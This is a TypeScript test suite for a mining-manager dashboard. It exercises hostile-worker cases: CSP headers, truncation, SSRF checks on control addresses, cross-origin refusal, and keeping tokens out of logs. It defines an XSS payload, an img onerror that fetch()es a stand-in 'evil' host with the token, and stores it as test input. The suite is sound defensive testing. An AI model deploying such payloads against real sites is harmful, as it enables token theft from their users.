// The dashboard against hostile workers: headers, stored payloads, malformed rows, which control addresses it calls
// and with which token, what it echoes, and what it logs.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import { test } from 'node:test';
import type { SectorState } from '../../api/sealer.js';
import { setupLogging } from '../../common/log.js';
import { createToken, generateSecret, localAuth, RpcServer } from '../../rpc/index.js';
import type { ManagerConfig } from '../config.js';
import { ManagerStore } from '../db.js';
import { managerHome } from '../harness.test-util.js';
import { openTestDb } from '../sql/pg.test-util.js';
import { FakeChain } from '../testkit.js';
import { checkDest, Dashboard, type DashboardState, PAGE_HEADERS, peerIp, postAlerts } from './index.js';
import { sectorCounts } from './queries.js';

let logged = '';
setupLogging({
  levelSpec: 'debug',
  format: 'json',
  dest: new Writable({
    write(chunk, _enc, cb) {
      logged += chunk.toString();
      cb();
    },
  }),
});

const XSS = '<img src=x onerror="fetch(\'//evil/\'+token)">';

/** A dashboard over its own database and a fake chain, on 127.0.0.1. */
async function dashboardAlone(secret: Uint8Array | null) {
  const store = new ManagerStore(openTestDb(':memory:'));
  const chain = new FakeChain();
  chain.addMiner(1000);
  const config = () => ({ SectorManager: { PreFetch: true, Miners: [{ ID: 1000 }] } }) as unknown as ManagerConfig;
  const dash = new Dashboard({ store, chain: chain.api(), config, secret, workerListTtlMs: 60_000 });
  const server = new RpcServer({ auth: null });
  dash.mount(server);
  const addr = await server.listen('127.0.0.1:0');
  return {
    store,
    dash,
    base: `http://127.0.0.1:${addr.port}`,
    async close() {
      dash.close();
      await server.close();
    },
  };
}

/** A stand-in worker control API on 127.0.0.1: records each call; `answer` decides the reply. */
async function fakeWorker(answer: (method: string, req: IncomingMessage) => { status?: number; body: string }) {
  const calls: { method: string; auth: string | undefined }[] = [];
  const server: Server = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => {
      body += c;
    });
    req.on('end', () => {
      const method = (JSON.parse(body || '{}') as { method?: string }).method ?? '';
      calls.push({ method, auth: req.headers.authorization });
      const a = answer(method, req);
      res.writeHead(a.status ?? 200, { 'Content-Type': 'application/json' });
      res.end(a.body);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    calls,
    dest: `127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

const ping = (store: ManagerStore, Name: string, Dest: string, Summary: unknown = { Threads: 1 }) =>
  store.pingWorker({ Name, Dest, Version: 'x', Summary } as never);

test('dashboard: the page is served with a strict CSP (its own script by hash), no framing, no sniffing, no referrer', async () => {
  const h = await dashboardAlone(null);
  try {
    const r = await fetch(`${h.base}/`);
    const html = await r.text();
    const csp = r.headers.get('content-security-policy') ?? '';
    assert.equal(csp, PAGE_HEADERS['Content-Security-Policy']);
    const script = /<script>([\s\S]*?)<\/script>/.exec(html)?.[1] ?? '';
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)?.[1] ?? '';
    const hash = (s: string) => `'sha256-${createHash('sha256').update(s).digest('base64')}'`;
    assert.match(
      csp,
      new RegExp(`script-src ${hash(script).replace(/[+/]/g, '\\$&')}`),
      'the served script is allowed',
    );
    assert.match(csp, new RegExp(`style-src ${hash(style).replace(/[+/]/g, '\\$&')}`), 'the served style is allowed');
    assert.match(csp, /frame-ancestors 'none'/);
    assert.equal(r.headers.get('x-frame-options'), 'DENY');
    assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(r.headers.get('referrer-policy'), 'no-referrer');
    const j = await fetch(`${h.base}/dashboard/api/state`);
    assert.equal(j.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(j.headers.get('referrer-policy'), 'no-referrer');
  } finally {
    await h.close();
  }
});

test('dashboard: a sector without Worker, a 1 MB LatestState and a worker with markup: state answers, bounded, as text', async () => {
  const { home, start } = managerHome('vsm-dash-sec-');
  const d = await start();
  const { token } = await import('../../rpc/index.js').then((m) => m.loadOrInitRepoAuth(home));
  try {
    const base = `http://127.0.0.1:${d.address.port}`;
    const big = 'A'.repeat(1 << 20);
    const stored = (n: number, latest: unknown, extra: Partial<SectorState> = {}) =>
      d.store.putSector(
        { ID: { Miner: 1000, Number: n }, Finalized: false, AbortReason: '', ...extra, LatestState: latest } as never,
        true,
      );
    // what the review's M9 request stores: a ReportState without Worker
    stored(1, { StateChange: { Prev: 'A', Next: 'B', Event: 'E' }, Failure: null });
    stored(2, {
      Worker: { Instance: big, Location: big },
      StateChange: { Prev: '', Next: big, Event: big },
      Failure: { Level: 'x', Desc: big },
    });
    stored(3, { Worker: 5, StateChange: { Next: { nested: true } }, Failure: 'odd' });
    stored(4, null, { AbortReason: XSS });
    ping(d.store, XSS, '', { Threads: XSS, Running: 0, Paused: 0, Errors: 0 });
    ping(d.store, 'no-summary', '', null);

    await fetch(`${base}/dashboard/api/state?token=${token}`); // the first also reads the chain
    const t0 = Date.now();
    const r = await fetch(`${base}/dashboard/api/state?token=${token}`);
    const text = await r.text();
    assert.equal(r.status, 200, text.slice(0, 300));
    assert.ok(text.length < 64 * 1024, `the answer is bounded (${text.length} bytes)`);
    process.stdout.write(`# state with a 1 MB LatestState: ${Date.now() - t0} ms, ${text.length} bytes\n`);
    const st = JSON.parse(text) as DashboardState;
    const row = (n: number) => st.sectors.find((s) => s.number === n)!;
    assert.equal(row(1).state, 'B');
    assert.equal(row(1).worker, null);
    assert.equal(row(2).worker?.length, 200);
    assert.equal(row(2).failure?.length, 200);
    assert.equal(row(2).state.length, 64);
    assert.deepEqual([row(3).state, row(3).worker, row(3).failure], ['Allocated', null, null]);
    assert.equal(row(4).state, 'Aborted');
    assert.equal(row(4).abort, XSS, 'kept as text; the page draws it as text');
    assert.equal(st.counts.B, 1);
    const w = st.workers.find((x) => x.name === XSS)!;
    assert.equal(w.summary, null, 'a summary with a non-number is not passed on');
    assert.equal(w.error, 'no control address');
    assert.equal(st.workers.find((x) => x.name === 'no-summary')?.summary, null);
  } finally {
    await d.close();
  }
});

test('dashboard in the daemon: a worker pinging over the API is polled at its control address, from where it pings', async () => {
  const { home, start } = managerHome('vsm-dash-ping-');
  const d = await start();
  const fake = await fakeWorker((method) => ({
    body: JSON.stringify({
      jsonrpc: '2.0',
      id: 1,
      result:
        method === 'VenusWorker.WorkerList'
          ? [
              {
                index: 0,
                location: '/s',
                plan: 'sealer',
                job_id: null,
                job_state: 'Empty',
                job_stage: null,
                thread_state: { state: 'Idle', elapsed: 1, proc: null },
                last_error: null,
              },
            ]
          : true,
    }),
  }));
  const { ManagerAPI } = await import('../../api/sealer.js');
  const { createClient, loadOrInitRepoAuth } = await import('../../rpc/index.js');
  const { token } = await loadOrInitRepoAuth(home);
  const api = createClient(ManagerAPI, { url: `http://127.0.0.1:${d.address.port}/rpc/v0`, token });
  try {
    const summary = { Threads: 1, Empty: 1, Paused: 0, Running: 0, Waiting: 0, Errors: 0 };
    await api.WorkerPing({ Name: 'w1', Dest: fake.dest, Version: 'x', Summary: summary });
    const st = (await fetch(`http://127.0.0.1:${d.address.port}/dashboard/api/state?token=${token}`).then((r) =>
      r.json(),
    )) as DashboardState;
    assert.equal(st.workers[0]?.error, undefined);
    assert.equal(st.workers[0]?.threads?.[0]?.job_state, 'Empty');
    assert.match(fake.calls[0]?.auth ?? '', /^Bearer /, 'the call carries a token');
  } finally {
    await api.close();
    await fake.close();
    await d.close();
  }
});

test('dashboard: control addresses must be <IP>:<port> where the worker pings from (or allow-listed)', () => {
  assert.equal(peerIp('127.0.0.1:5555'), '127.0.0.1');
  assert.equal(peerIp('::ffff:10.1.2.3:5555'), '10.1.2.3');
  assert.equal(peerIp('::1:5555'), '::1');
  const from = '192.168.1.5';
  assert.equal(checkDest('192.168.1.5:17890', from), null);
  assert.equal(checkDest('[::1]:17890', '127.0.0.1'), null, 'loopback to loopback');
  assert.match(
    checkDest('127.0.0.1:17890', from) ?? '',
    /not where the worker pings from/,
    'a remote worker naming our loopback',
  );
  assert.match(checkDest('192.168.1.6:17890', from) ?? '', /not where/);
  assert.match(checkDest('192.168.1.6:17890', undefined) ?? '', /waiting for the worker/);
  assert.equal(checkDest('192.168.1.6:17890', from, ['192.168.1.6']), null, 'operator allow-list');
  for (const bad of [
    'localhost:17890',
    'evil.example:80',
    '192.168.1.5:17890/x?',
    'http://192.168.1.5:1',
    '192.168.1.5',
    'user@192.168.1.5:1',
    '192.168.1.5:0',
    '192.168.1.5:99999',
    ' 192.168.1.5:1',
  ])
    assert.match(checkDest(bad, from) ?? '', /not <IP>:<port>/, bad);
  assert.equal(checkDest('', from), 'no control address');
});

test('dashboard: an unregistered Dest gets no request; a registered one is polled once per TTL and not echoed', async () => {
  const secret = generateSecret();
  const h = await dashboardAlone(secret);
  const fake = await fakeWorker(() => ({ status: 200, body: 'hello-internal-secret-42' }));
  const admin = await createToken(secret, 'admin');
  try {
    // a remote worker naming an address on the manager's machine: refused without a request, also for pause/resume
    h.dash.notePing('evil', '192.0.2.7:4444');
    ping(h.store, 'evil', fake.dest);
    ping(h.store, 'named', `localhost:${fake.dest.split(':')[1]}`);
    h.dash.notePing('named', '127.0.0.1:4444');
    let st = await h.dash.state();
    assert.match(
      st.workers.find((w) => w.name === 'evil')?.error ?? '',
      /not where the worker pings from \(192\.0\.2\.7\)/,
    );
    assert.match(st.workers.find((w) => w.name === 'named')?.error ?? '', /not <IP>:<port>/);
    const post = (worker: string) =>
      fetch(`${h.base}/dashboard/api/worker?token=${admin}`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ worker, index: 0, action: 'pause' }),
      });
    const refused = await post('evil');
    assert.equal(refused.status, 409);
    assert.equal(fake.calls.length, 0, 'no request to an unregistered address');

    // the same address pinged from loopback: called, but its non-JSON answer is not shown
    h.dash.notePing('local', '127.0.0.1:4444');
    ping(h.store, 'local', fake.dest);
    for (let i = 0; i < 5; i++) st = await h.dash.state();
    const w = st.workers.find((x) => x.name === 'local')!;
    assert.equal(w.threads, null);
    assert.equal(w.error, 'control API answered HTTP 200 without JSON-RPC');
    assert.equal(fake.calls.length, 1, 'polled once, then cached');
    assert.doesNotMatch(JSON.stringify(st), /hello-internal-secret/);
    const p = await post('local');
    assert.equal(p.status, 502);
    assert.doesNotMatch(await p.text(), /hello-internal-secret/);
    // cross-site pages cannot press the buttons
    const x = await fetch(`${h.base}/dashboard/api/worker?token=${admin}`, {
      method: 'POST',
      headers: { Origin: 'https://evil.example' },
      body: JSON.stringify({ worker: 'local', index: 0, action: 'pause' }),
    });
    assert.equal(x.status, 403);
  } finally {
    await fake.close();
    await h.close();
  }
});

test('dashboard: calls to a worker carry a token signed with the manager secret (read to list, admin to pause)', async () => {
  const secret = generateSecret();
  const h = await dashboardAlone(secret);
  const auth = localAuth(secret);
  // a worker that checks the manager's tokens, as the worker's control API does once it requires one
  const perms: string[][] = [];
  const server = createServer(async (req, res) => {
    let body = '';
    for await (const c of req) body += c;
    const { method } = JSON.parse(body) as { method: string };
    const token = req.headers.authorization?.replace(/^Bearer /, '') ?? '';
    let p: string[] = [];
    try {
      p = (await auth.verify(token)).perms as string[];
    } catch {
      res.writeHead(401).end('{"error":"bad token"}');
      return;
    }
    perms.push(p);
    const need = method === 'VenusWorker.WorkerList' ? 'read' : 'admin';
    const reply = (v: unknown) => res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify(v));
    if (!p.includes(need)) return reply({ jsonrpc: '2.0', id: 1, error: { code: 1, message: `need ${need} ${XSS}` } });
    if (method === 'VenusWorker.WorkerList')
      return reply({
        jsonrpc: '2.0',
        id: 1,
        result: [
          {
            index: 0,
            location: XSS,
            plan: 'sealer',
            job_id: XSS + 'x'.repeat(100),
            job_state: 'PC1',
            job_stage: null,
            thread_state: { state: 'Running', elapsed: 5, proc: null },
            last_error: 'x'.repeat(5000),
          },
          { index: 'one' },
        ],
      });
    return reply({ jsonrpc: '2.0', id: 1, result: true });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const dest = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  const admin = await createToken(secret, 'admin');
  try {
    h.dash.notePing('w1', '127.0.0.1:40000');
    ping(h.store, 'w1', dest);
    const st = await h.dash.state();
    const w = st.workers[0]!;
    assert.equal(w.error, undefined);
    assert.equal(w.threads?.length, 1, 'malformed thread entries dropped');
    assert.equal(w.threads?.[0]?.job_id?.length, 64);
    assert.equal(w.threads?.[0]?.last_error?.length, 200);
    const r = await fetch(`${h.base}/dashboard/api/worker?token=${admin}`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ worker: 'w1', index: 0, action: 'pause' }),
    });
    assert.deepEqual(await r.json(), { ok: true });
    assert.equal(perms.length, 2);
    assert.ok(perms[0]!.includes('read') && !perms[0]!.includes('admin'), 'listing with a read token');
    assert.ok(perms[1]!.includes('admin'), 'pausing with an admin token');
  } finally {
    await new Promise<void>((res) => server.close(() => res()));
    await h.close();
  }
});

test('dashboard: a failing request logs its path, never the ?token= it came with', async () => {
  const secret = generateSecret();
  const h = await dashboardAlone(secret);
  const read = await createToken(secret, 'read');
  try {
    h.store.db.close(); // every query now throws
    logged = '';
    const r = await fetch(`${h.base}/dashboard/api/state?token=${read}`);
    assert.equal(r.status, 500);
    assert.doesNotMatch(await r.text(), /database|token/);
    assert.match(logged, /dashboard request failed/);
    assert.match(logged, /"path":"\/dashboard\/api\/state"/);
    assert.equal(logged.includes(read), false, 'the token is not logged');
    assert.equal(logged.includes(read.split('.')[1]!), false, 'not even its payload');
  } finally {
    await h.close();
  }
});

test('dashboard: counts by state come from SQL and match the sector states', () => {
  const store = new ManagerStore(openTestDb(':memory:'));
  const put = (n: number, s: Partial<SectorState>, online = true) =>
    store.putSector({ ID: { Miner: 1000, Number: n }, Finalized: false, AbortReason: '', ...s } as never, online);
  put(1, {});
  put(2, { LatestState: { StateChange: { Next: 'PC1' } } } as never);
  put(3, { LatestState: { StateChange: { Next: 'PC1' } } } as never);
  put(4, { Finalized: true }, false);
  put(5, { AbortReason: 'gone', Finalized: true }, false);
  put(6, { LatestState: {} } as never);
  assert.deepEqual(sectorCounts(store), { Allocated: 2, PC1: 2, Aborted: 1, Finalized: 1 });
  // a store with an indexed state column answers the counts itself; names are still cut
  const indexed = {
    countSectorsByState: () => [
      { state: 'PC1', count: 2 },
      { state: null, count: 1 },
      { state: 'x'.repeat(100), count: 1 },
    ],
  };
  assert.deepEqual(sectorCounts(indexed as never), { PC1: 2, Allocated: 1, ['x'.repeat(64)]: 1 });
  for (let i = 0; i < 50; i++) put(100 + i, { LatestState: { StateChange: { Next: `fuzz_${i}` } } } as never);
  const many = sectorCounts(store, 10);
  assert.equal(Object.keys(many).length, 11);
  assert.ok((many.other ?? 0) > 0, 'the rest summed as "other"');
  assert.equal(
    Object.values(many).reduce((a, b) => a + b, 0),
    56,
  );
});

test('dashboard: state lists the latest 200 sectors and never parses every sector row in JavaScript', async () => {
  const h = await dashboardAlone(null);
  try {
    h.store.tx(() => {
      for (let n = 1; n <= 300; n++)
        h.store.putSector({ ID: { Miner: 1000, Number: n }, Finalized: false, AbortReason: '' } as never, true);
    });
    // the full-table read the dashboard used to do each second
    h.store.listSectors = () => {
      throw new Error('listSectors called');
    };
    const st = await h.dash.state();
    assert.equal(st.sectors.length, 200);
    assert.equal(st.sectors[0]?.number, 300, 'newest first');
    assert.deepEqual(st.counts, { Allocated: 300 });
  } finally {
    await h.close();
  }
});

test('dashboard: a failed Window PoSt of the open deadline is an alert until one lands; reasons are passed on', async () => {
  const dl = { miner: 1000, index: 3, open: 100, close: 160, current: true, proven: [], partitions: [] };
  const post = (ok: boolean, epoch: number | null, at: number, reason: string | null = null) => ({
    miner: 't01000',
    deadline: 3,
    ok,
    epoch,
    proven: 0,
    faulty: 0,
    reason,
    at,
  });
  assert.deepEqual(postAlerts(120, [dl], [post(false, 110, 2, 'gas')]), [
    { miner: 1000, deadline: 3, epoch: 110, close: 160, reason: 'gas' },
  ]);
  assert.deepEqual(postAlerts(120, [dl], [post(true, 115, 3), post(false, 110, 2)]), [], 'landed after failing');
  assert.deepEqual(postAlerts(170, [dl], [post(false, 110, 2)]), [], 'deadline closed');
  assert.deepEqual(postAlerts(120, [dl], [post(false, 50, 2)]), [], 'an earlier window');
  assert.deepEqual(postAlerts(120, [{ ...dl, current: false }], [post(false, 110, 2)]), []);

  // end to end: the reason the poster stores (post_results.reason) reaches the state and the alert
  const h = await dashboardAlone(null);
  try {
    const cur = (await h.dash.state()).deadlines.find((d) => d.current)!;
    h.store.db
      .prepare(
        'INSERT INTO post_results (miner, deadline, ok, epoch, proven, faulty, at, reason) VALUES (?, ?, 0, ?, 0, 1, ?, ?)',
      )
      .run('t01000', cur.index, cur.open, Date.now(), `${XSS} ${'r'.repeat(1000)}`);
    const st = await h.dash.state();
    assert.equal(st.posts[0]?.ok, false);
    assert.equal(st.posts[0]?.reason?.length, 200);
    assert.equal(st.alerts.length, 1);
    assert.equal(st.alerts[0]?.deadline, cur.index);
    assert.ok(st.alerts[0]?.reason?.startsWith(XSS));
  } finally {
    await h.close();
  }
});
